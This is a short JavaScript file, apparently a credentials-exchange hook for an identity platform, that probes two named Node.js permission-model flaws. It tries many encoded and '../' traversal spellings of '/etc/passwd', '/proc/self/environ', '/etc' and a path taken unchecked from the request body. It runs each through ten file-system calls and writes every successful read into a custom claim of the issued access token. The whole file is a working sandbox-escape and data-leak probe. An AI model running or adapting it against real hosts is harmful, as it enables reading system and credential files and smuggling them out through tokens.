// outcome: completed; claim read=[]; beside served
// CVE-2023-32004, CVE-2023-39332: a path in a Buffer or Uint8Array, with a way out of the folder in it.
const fs = require('node:fs')
const { relative } = require('node:path')
const encode = (path) => new TextEncoder().encode(path)
const spellings = (path) => [
  encode(path),
  Buffer.from(path),
  encode(`${__dirname}/${relative(__dirname, path)}`),
  Buffer.from(`${__dirname}/./${relative(__dirname, path)}`),
  encode(`${__dirname}//${'../'.repeat(30)}${path.slice(1)}`),
  new Uint8Array(new SharedArrayBuffer(path.length)).fill(1).map((_, i) => path.charCodeAt(i)),
  new Proxy(Buffer.from(path), {}),
  Object.setPrototypeOf(encode(path), Buffer.prototype),
]
const ways = {
  readFileSync: (path) => fs.readFileSync(path),
  openSync: (path) => fs.openSync(path),
  statSync: (path) => fs.statSync(path),
  readdirSync: (path) => fs.readdirSync(path, 'buffer'),
  'promises.readFile': (path) => fs.promises.readFile(path),
  'promises.open': (path) => fs.promises.open(path),
  readlinkSync: (path) => fs.readlinkSync(path, 'buffer'),
  realpathSync: (path) => fs.realpathSync(path, 'buffer'),
  opendirSync: (path) => fs.opendirSync(path),
  accessSync: (path) => fs.accessSync(path) ?? true,
}
exports.onExecuteCredentialsExchange = async (event, api) => {
  const read = []
  for (const path of ['/etc/passwd', `${event.request.body.data}/config.db`, '/proc/self/environ', '/etc']) {
    for (const spelling of spellings(path)) {
      for (const [name, way] of Object.entries(ways)) {
        try {
          if (await way(spelling)) read.push(`${name} ${path}`)
        } catch {
          // Refused.
        }
      }
    }
  }
  api.accessToken.setCustomClaim('read', read)
}
